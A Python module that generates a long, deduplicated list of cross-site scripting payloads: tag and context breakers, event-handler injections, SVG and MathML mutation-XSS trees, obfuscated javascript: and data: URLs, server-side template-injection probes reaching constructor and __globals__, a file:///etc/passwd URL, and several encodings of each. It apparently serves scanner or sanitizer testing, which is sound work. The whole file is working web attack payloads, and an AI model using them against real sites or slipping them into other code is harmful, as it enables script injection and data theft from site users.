"""What stands in a text that means to become a program in the page that shows it; own constructions."""

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

RUN = "alert(1)"
_BREAKERS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "</option></select>",
)
_ALONE = ("img", "image", "audio", "video", "input", "source", "embed", "track")
_LOADED = ("svg", "body", "iframe", "object", "math", "style", "link", "marquee")
_EVENTS = (
    *(
        "click",
        "error",
        "load",
        "focus",
        "blur",
        "mouseover",
        "pointerenter",
        "pointerdown",
        "wheel",
        "toggle",
    ),
    *(
        "animationstart",
        "animationend",
        "transitionend",
        "begin",
        "end",
        "repeat",
        "scroll",
        "resize",
        "pageshow",
    ),
    *(
        "hashchange",
        "popstate",
        "message",
        "storage",
        "input",
        "change",
        "submit",
        "reset",
        "invalid",
        "select",
    ),
    *(
        "keydown",
        "keypress",
        "keyup",
        "copy",
        "cut",
        "paste",
        "drag",
        "drop",
        "play",
        "canplay",
        "ended",
        "cancel",
    ),
    *(
        "beforetoggle",
        "contentvisibilityautostatechange",
        "securitypolicyviolation",
        "slotchange",
        "scrollend",
    ),
)


def _bodies() -> Iterator[str]:
    yield from (f"<{tag} src=x onerror={RUN}>" for tag in _ALONE)
    yield from (f"<{tag} onload={RUN}>" for tag in _LOADED)
    yield f"<script>{RUN}</script>"
    yield f"<script src=//x.test/{RUN}></script>"
    yield f"<details open ontoggle={RUN}>"
    yield f"<a href=javascript:{RUN}>x</a>"
    yield f"<form action=javascript:{RUN}><button>x</button></form>"
    yield f"<button formaction=javascript:{RUN}>x</button>"
    yield f"<iframe srcdoc='<script>{RUN}</script>'></iframe>"
    yield f"<object data=javascript:{RUN}></object>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield "<base href=//x.test/>"
    yield "<link rel=stylesheet href=//x.test/a.css>"
    yield "<style>@import '//x.test/a.css'</style>"
    yield f"<template><script>{RUN}</script></template>"
    yield f"<x style='behavior:url(#x)' tabindex=1 onfocus={RUN} autofocus>"


def _foreign() -> Iterator[str]:
    """SVG, MathML, and trees that change when they are read a second time (mutation XSS)."""
    for outer in (
        "svg",
        "math",
        "svg><desc",
        "svg><title",
        "svg><foreignObject",
        "math><mtext",
        "math><annotation-xml",
    ):
        for inner in ("style", "title", "mglyph", "noscript", "textarea", "xmp", "table", "p"):
            yield f"<{outer}><{inner}><img title='</{inner}><img src=x onerror={RUN}>'>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>"
    yield f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x">'
    yield f"<svg><set attributeName=href to=javascript:{RUN}>"
    yield f"<math href=javascript:{RUN}>x</math>"
    yield f"<svg><script href=data:,{RUN} />"


def _urls() -> Iterator[str]:
    names: tuple[str, ...] = (
        "javascript",
        "JaVaScRiPt",
        "java\tscript",
        "java\nscript",
        "\x01javascript",
        " javascript",
        "vbscript",
    )
    names += (
        "java\x00script",
        "jav&#x61;script",
        "javascript&colon;",
        "\u00a0javascript",
        "\u200bjavascript",
        "livescript",
    )
    for name in names:
        yield f"{name}:{RUN}"
        yield f"{name}://bao.vn/%0a{RUN}"
    kinds = ("text/html", "text/html;base64", "image/svg+xml", "application/xhtml+xml", "text/xml", "")
    yield from (f"data:{kind},<script>{RUN}</script>" for kind in kinds)
    yield from (
        "//x.test/a",
        "\\\\x.test\\a",
        "/\\x.test/a",
        "https:x.test",
        "file:///etc/passwd",
        "blob:x",
        "about:blank",
    )


def _templates() -> Iterator[str]:
    for left, right in (
        ("{{", "}}"),
        ("${", "}"),
        ("<%=", "%>"),
        ("{%", "%}"),
        ("#{", "}"),
        ("[[", "]]"),
        ("{{{", "}}}"),
    ):
        yield f"{left} 7*7 {right}"
        yield f"{left} constructor.constructor('{RUN}')() {right}"
        yield f"{left} self.__init__.__globals__ {right}"


def _encoded(text: str) -> Iterator[str]:
    yield escape(text)
    yield quote(text)
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "\\u003c").replace(">", "\\x3e")
    yield text.replace("<", "&lt").replace(">", "&#62")
    yield "".join(f"&#{ord(letter)};" for letter in text)


def payloads() -> list[str]:
    """All of them, each once, always in this order."""
    bodies = list(_bodies())
    made = [breaker + body for breaker in _BREAKERS for body in bodies]
    made += [
        f"{mark} on{event}={RUN} autofocus x={mark}" for event in _EVENTS for mark in ('"', "'", "`", "")
    ]
    made += [*_foreign(), *_urls(), *_templates()]
    made += [spelled for body in bodies for spelled in _encoded(body)]
    return list(dict.fromkeys(made))
